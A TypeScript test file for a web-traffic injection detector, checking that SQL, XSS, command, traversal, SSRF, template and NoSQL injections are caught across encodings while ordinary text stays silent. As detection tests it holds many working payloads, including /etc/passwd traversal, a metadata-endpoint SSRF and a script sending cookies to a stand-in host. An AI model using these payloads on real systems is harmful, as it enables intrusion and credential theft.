// The injection detector on hand-built requests through the harness (a real features stage first):
// each class fires where it hides (query, path, JSON and form bodies) after each decoding; the
// threshold is exact; ordinary text with quotes, "select", "<3" and file paths stays silent; a
// parameter that many identities fill with HTML or SQL learns it as normal and is lowered; every
// bound fires and is counted; no payload or secret leaves in a finding.
import t, { type Test } from 'tap';
import type { Finding } from '../../../src/core/finding';
import { injection } from '../../../src/detectors/injection';
import { harness, MONDAY, type TxSpec } from './harness';

const at = (i: number): number => MONDAY + 3600 + i * 5;

function get(path: string, query: string, i = 0, over: Partial<TxSpec> = {}): TxSpec {
  return { ts: at(i), path, template: path, query, identity: 'user:mallory', clientIp: '203.0.113.9', ...over };
}

function post(path: string, body: unknown, i = 0, over: Partial<TxSpec> = {}): TxSpec {
  return { ts: at(i), method: 'POST', path, template: path, reqBody: body, identity: 'user:mallory', clientIp: '203.0.113.9', ...over };
}

function only(t: Test, findings: Finding[]): Finding {
  t.equal(findings.length, 1, 'one finding');
  return findings[0] as Finding;
}

t.test('each class fires in the place it hides, decoded, and names class, parameter and location', async (t) => {
  const cases: Array<[string, TxSpec, string, string]> = [
    ['SQLi, double URL-encoded, query', get('/orders', 'limit=30&status=4%2520AND%252041%253D48%2520UNION%2520SELECT%2520NULL--'), 'SQL injection', 'query parameter status'],
    ['XSS in a JSON field', post('/posts', { title: 'hi', content: '<img src=x onerror=alert(document.cookie)>' }), 'cross-site scripting', 'JSON body field content'],
    ['command injection after a newline', get('/report', 'report_id=%0aid'), 'command injection', 'query parameter report_id'],
    ['traversal in a path segment', { ...get('/posts/..%252f..%252f..%252fetc%252fpasswd', ''), template: '/posts/{id}', query: null }, 'path traversal', 'path path[2]'],
    ['traversal over encoded dot segments', { ...get('/posts/%2e%2e/%2e%2e/%2e%2e/etc/passwd', ''), template: null, query: null }, 'path traversal', 'the path'],
    ['SQLi in a path segment with + for spaces', { ...get('/orders/7%22+UNION+SELECT+1%2CNULL%23', ''), template: '/orders/{id}', query: null }, 'SQL injection', 'path path[2]'],
    ['traversal over literal segments', { ...get('/files/../../../etc/passwd', ''), template: null, query: null }, 'path traversal', 'the path'],
    ['SSRF to the metadata endpoint', post('/contact', { mechanic_api: 'http://169.254.169.254/latest/meta-data/' }), 'server-side request forgery', 'JSON body field mechanic_api'],
    ['SSRF with a gopher: URL in a form', { ...post('/fetch', 'url=gopher%3A%2F%2F127.0.0.1%3A6379%2F_INFO'), reqContentType: 'application/x-www-form-urlencoded' }, 'server-side request forgery', 'form field url'],
    ['template injection', get('/posts/recent', 'limit=%24%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D'), 'template injection', 'query parameter limit'],
    ['NoSQL operator key in JSON', post('/login', { email: { $ne: null }, password: { $ne: null } }), 'NoSQL operator injection', 'JSON body field email'],
    ['NoSQL operator in a parameter name', get('/orders', 'status[$ne]=delivered'), 'NoSQL operator injection', 'query parameter status[$ne]'],
    ['unicode %u escapes', get('/search', 'q=%u003cscript%u003ealert(1)%u003c/script%u003e'), 'cross-site scripting', 'query parameter q'],
    ['\\u escapes in JSON text', post('/posts', '{"content":"\\\\u003csvg onload=alert(1)\\\\u003e"}'), 'cross-site scripting', 'JSON body field content'],
    ['HTML entities', get('/search', 'q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B'), 'cross-site scripting', 'query parameter q'],
    ['base64 of a payload', get('/search', `q=${Buffer.from("' OR 1=1--").toString('base64')}`), 'SQL injection', 'query parameter q'],
  ];
  for (const [name, spec, cls, where] of cases) {
    const h = harness(injection);
    h.feed([spec]);
    const f = only(t, h.findings);
    t.match(f.explanation.summary, cls, `${name}: class`);
    t.match(f.explanation.summary, where, `${name}: where`);
    t.equal(f.detector, 'injection');
    t.ok(f.score >= 0.6 && f.score <= 1, `${name}: score ${f.score}`);
    t.ok(f.explanation.factors.length >= 2, 'at least two factors');
    for (const factor of f.explanation.factors.slice(0, 2)) t.ok(factor.baseline !== undefined && factor.contribution !== undefined, `${factor.name} has a baseline and a contribution`);
    t.equal(f.identity, 'user:mallory');
    t.equal(f.client, '203.0.113.9');
  }
});

t.test('the encodings removed are named in the factors', async (t) => {
  const h = harness(injection);
  h.feed([get('/orders', 'status=4%2520AND%252041%253D48')]);
  const layers = only(t, h.findings).explanation.factors.find((f) => f.name === 'encoding_layers');
  t.equal(layers?.value, 'URL+double URL');
});

t.test('fires just above its threshold, silent just below', async (t) => {
  // `1 AND 41=48` matches one rule (an AND comparison of numbers) of weight 0.65
  const above = harness(injection, { options: { minScore: 0.65 } });
  above.feed([get('/orders', 'status=1%20AND%2041%3D48')]);
  t.equal(above.findings.length, 1, 'score 0.65 ≥ 0.65');
  const below = harness(injection, { options: { minScore: 0.66 } });
  below.feed([get('/orders', 'status=1%20AND%2041%3D48')]);
  t.equal(below.findings.length, 0, 'score 0.65 < 0.66');
  t.equal(below.counters.get('detectors.injection.below_threshold'), 1);
});

t.test('ordinary text is silent: apostrophes, "select", <3, file paths, public URLs, JSON Schema keys', async (t) => {
  const h = harness(injection);
  const texts = [
    "I'm sure it's fine, O'Brien's car and Tom's bike.",
    'Please select one option from the list below and order by price.',
    'Love this community <3 <3',
    'Tom & Jerry; cat is cute | dog too',
    '"Yes" and "no" are both answers',
    'Use 5 < 6 and 7 > 3 when comparing',
    'See https://example.com/docs?page=2&sort=asc for details',
    "Hello {{name}}, your order ${orderId} is ready",
    'It costs 50% less -- really!',
    'email me at jane.doe+cars@mail.example',
  ];
  const paths = ['/home/alice/reports/2024/q1.pdf', 'C:\\Users\\alice\\Documents\\car.txt', '../images/logo.png', 'uploads/2024/photo.jpg'];
  let i = 0;
  for (const content of texts) h.feed([post('/posts', { title: 'A question', content }, i++, { identity: 'user:alice', clientIp: '198.51.100.7' })]);
  for (const file of paths) h.feed([get('/files', `path=${encodeURIComponent(file)}`, i++, { identity: 'user:alice', clientIp: '198.51.100.7' })]);
  h.feed([post('/schemas', { $schema: 'https://json-schema.org/draft/2020-12/schema', $ref: '#/defs/a', $id: 'x' }, i++)]);
  h.feed([get('/search', 'q=rock%20%26%20roll&sort=-date&fields=name|id|email', i)]);
  t.same(h.findings, [], 'no finding');
});

t.test('confounder: an exec API whose field is a command by design (Docker create: Cmd, Entrypoint, Healthcheck)', async (t) => {
  const h = harness(injection);
  // as the Docker CLI sends it (test/pcap/traces/docker-http-upgrade.pcap carries one)
  h.feed([post('/v1.41/containers/create', { Image: 'alpine', Cmd: ['/bin/sh'], Entrypoint: ['/usr/bin/env'], Healthcheck: { Test: ['CMD', '/bin/cat', '/tmp/ok'] } }, 0, { identity: 'ip:192.168.122.1' })]);
  h.feed([post('/v1.41/containers/create', { Image: 'alpine', Cmd: ['/bin/bash', '-c', 'echo hello'] }, 1, { identity: 'ip:192.168.122.1' })]);
  t.same(h.findings, [], 'a value that is a binary path is an argument, not a breakout');
  h.feed([post('/v1.41/containers/create', { Image: 'alpine; /bin/sh -i' }, 2, { identity: 'ip:192.168.122.1' })]);
  t.equal(h.findings.length, 1, 'the same binary after a shell separator still fires');
});

t.test('the payload and secrets never leave: short redacted excerpt, withheld for secret-like names, masked path', async (t) => {
  const secret = 'Sup3rS3cretT0kenValue42';
  const h = harness(injection, { options: { cooldownSec: 0 } });
  h.feed([post('/login', { email: 'a@b.example', password: `' OR '1'='1' -- ${secret}` })]);
  h.feed([post('/contact', { mechanic_api: `http://admin:${secret}@127.0.0.1:2375/` }, 1)]);
  h.feed([{ ...get('/posts/..%2f..%2f..%2fetc%2fpasswd', ''), template: null, query: null, ts: at(2) }]);
  t.equal(h.findings.length, 3);
  for (const f of h.findings) {
    const text = JSON.stringify(f);
    t.notMatch(text, secret, 'no secret');
    t.notMatch(text, 'etc%2fpasswd', 'no raw payload');
    t.notMatch(text, "'1'='1'", 'no payload text');
  }
  t.match(h.findings[0]?.evidence[0]?.note ?? '', 'withheld: secret-like parameter');
  t.match(h.findings[1]?.evidence[0]?.note ?? '', '//***@');
  t.equal(h.findings[2]?.evidence[0]?.target, '/posts/{…}', 'the segment carrying the payload is masked');
});

t.test('confounder: a parameter many identities fill with HTML (a CMS body) learns it and is lowered', async (t) => {
  const h = harness(injection);
  const embed = '<p>Our new video</p><iframe src="https://video.example/embed/42" allowfullscreen></iframe>';
  const editors = ['ed1', 'ed2', 'ed3', 'ed4', 'ed5', 'ed6'];
  let i = 0;
  for (let round = 0; round < 5; round++)
    for (const e of editors) h.feed([post('/cms/pages', { title: 'page', body: embed }, i++, { identity: `user:${e}`, clientIp: `10.1.0.${round + 1}` })]);
  const early = h.findings.length;
  t.ok(early >= 1 && early <= editors.length, `no baseline needed to fire: ${early} findings while learning`);
  h.findings.length = 0;
  h.feed([post('/cms/pages', { title: 'page', body: embed }, i++, { identity: 'user:newcomer', clientIp: '10.1.0.99' })]);
  t.same(h.findings, [], 'a new editor with the same kind of HTML is below the threshold once learned');
  h.feed([post('/cms/pages', { title: 'page', body: '<script>fetch("//x.example/"+document.cookie)</script>' }, i, { identity: 'user:intruder', clientIp: '10.1.0.98' })]);
  const f = only(t, h.findings);
  t.match(f.explanation.summary, 'cross-site scripting', 'a script tag is another rule: not lowered');
});

t.test('confounder: a query-builder parameter carrying SQL is learned and lowered', async (t) => {
  const h = harness(injection);
  const sql = encodeURIComponent('SELECT name, total FROM orders WHERE id IN (SELECT order_id FROM lines)');
  let i = 0;
  for (let round = 0; round < 4; round++) for (let a = 0; a < 6; a++) h.feed([get('/reports/query', `q=${sql}`, i++, { identity: `user:analyst${a}`, clientIp: `10.2.0.${a}` })]);
  h.findings.length = 0;
  h.feed([get('/reports/query', `q=${sql}`, i, { identity: 'user:analyst9', clientIp: '10.2.0.9' })]);
  t.same(h.findings, [], 'the learned sub-select is lowered below the threshold');
});

t.test('one identity repeating a payload never makes it normal', async (t) => {
  const h = harness(injection, { options: { cooldownSec: 0 } });
  for (let i = 0; i < 40; i++) h.feed([get('/orders', 'status=1%27%20UNION%20SELECT%20NULL--', i)]);
  t.equal(h.findings.length, 40, 'every one fires (no cooldown here)');
  t.ok((h.findings.at(-1)?.score ?? 0) >= 0.9, 'the last is not lowered');
});

t.test('one finding per actor per cooldown; the next counts the payloads between', async (t) => {
  const h = harness(injection, { options: { cooldownSec: 600 } });
  h.feed([0, 1, 2].map((i) => get('/orders', 'status=1%27%20OR%201%3D1--', i)));
  t.equal(h.findings.length, 1);
  t.equal(h.counters.get('detectors.injection.cooldown_suppressed'), 2);
  h.feed([{ ...get('/orders', 'status=1%27%20OR%201%3D1--'), ts: at(0) + 601 }]);
  t.equal(h.findings.length, 2, 'after the cooldown');
  t.equal(h.findings[1]?.explanation.factors.find((f) => f.name === 'payloads_since_last_finding')?.value, 3);
});

t.test('payloads sent as login names: the client is the actor, and the identity (the payload) is not shown', async (t) => {
  const h = harness(injection);
  const login = (email: string, i: number): TxSpec => post('/login', { email, password: 'x' }, i, { identity: `user:${email}`, loginUser: `user:${email}` });
  h.feed([login("' OR 1=1--", 0), login('" UNION SELECT NULL--', 1), login("'; WAITFOR DELAY '0:0:5'--", 2)]);
  const f = only(t, h.findings);
  t.equal(f.identity, undefined, 'no identity made of the payload');
  t.equal(f.client, '203.0.113.9');
  t.equal(h.counters.get('detectors.injection.cooldown_suppressed'), 2, 'one cooldown for the client, whatever name it tries');
});

t.test('one identity and its address share a cooldown', async (t) => {
  const h = harness(injection);
  h.feed([get('/search', 'q=%3Cscript%3E', 0), get('/search', 'q=%3Cscript%3E', 1, { identity: 'user:other' })]);
  t.equal(h.findings.length, 1, 'a second identity from the same address within the cooldown is suppressed');
});

t.test('bodies: only for methods that carry one, only up to maxBodyBytes', async (t) => {
  const h = harness(injection, { options: { maxBodyBytes: 100 } });
  h.feed([{ ...post('/posts', { content: '<script>alert(1)</script>' }), method: 'GET' }]);
  t.same(h.findings, [], 'a GET body is not read');
  h.feed([post('/posts', { content: `<script>alert(1)</script>${'x'.repeat(200)}` }, 1)]);
  t.same(h.findings, [], 'a body over the bound is not read');
  t.equal(h.counters.get('detectors.injection.body_too_large'), 1);
});

t.test('bounds: values per request, actors, learned entries', async (t) => {
  const values = harness(injection, { options: { maxValues: 3 } });
  values.feed([get('/search', 'a=1&b=2&c=3&q=%3Cscript%3E')]);
  t.same(values.findings, [], 'the fourth value is not read');
  t.equal(values.counters.get('detectors.injection.values_truncated'), 1);

  const actors = harness(injection, { options: { maxActors: 2 } });
  actors.feed(['a', 'b', 'c'].map((u, i) => get('/search', 'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', i, { identity: `user:${u}`, clientIp: `203.0.113.${i + 1}` })));
  t.equal(actors.findings.length, 3);
  t.ok((actors.counters.get('detectors.injection.actors_overflow') ?? 0) >= 1, 'the oldest actors are forgotten and counted');

  const deep = harness(injection, { options: { maxDepth: 2 } });
  deep.feed([post('/posts', { a: { b: { c: '<script>alert(1)</script>' } } })]);
  t.same(deep.findings, [], 'nesting past maxDepth is not followed');
  t.equal(deep.counters.get('detectors.injection.values_truncated'), 1);
  const shallow = harness(injection, { options: { maxDepth: 4 } });
  shallow.feed([post('/posts', { a: { b: { c: '<script>alert(1)</script>' } } })]);
  t.equal(shallow.findings.length, 1, 'within maxDepth it is read');

  const long = harness(injection, { options: { maxValueChars: 64 } });
  long.feed([post('/posts', { content: `${'a'.repeat(80)}<script>alert(1)</script>` })]);
  t.same(long.findings, [], 'characters past maxValueChars are not read');

  const learned = harness(injection, { options: { maxNormalEntries: 1 } });
  learned.feed([get('/search', 'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E')]);
  t.ok((learned.counters.get('detectors.injection.normal_overflow') ?? 0) >= 1, 'entries past the bound are counted, not kept');
});

t.test('idle without features; silent when disabled; analysts\' verdicts raise the threshold', async (t) => {
  const payload = get('/search', 'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E');
  const idle = harness(injection, { noFeatures: true });
  idle.feed([payload]);
  t.same(idle.findings, [], 'no features: idle');
  const off = harness(injection, { options: { enabled: false } });
  off.feed([payload]);
  t.same(off.findings, [], 'disabled');
  const seen: Array<[string, string | null]> = [];
  const tuned = harness(injection, {
    feedback: {
      factor: (detector, identity) => {
        seen.push([detector, identity]);
        return 2;
      },
    },
  });
  tuned.feed([payload]);
  t.same(tuned.findings, [], 'factor 2: threshold 1.2, above any score');
  t.same(seen[0], ['injection', 'user:mallory']);
});

t.test('suggests blocking a high-confidence payload, observing a weaker one', async (t) => {
  const strong = harness(injection);
  strong.feed([get('/orders', 'status=1%27%20UNION%20SELECT%20NULL%2CNULL--')]);
  t.equal(only(t, strong.findings).suggested?.action, 'block');
  const weak = harness(injection);
  weak.feed([get('/orders', 'status=1%20AND%2041%3D48')]);
  t.equal(only(t, weak.findings).suggested?.action, 'observe');
});
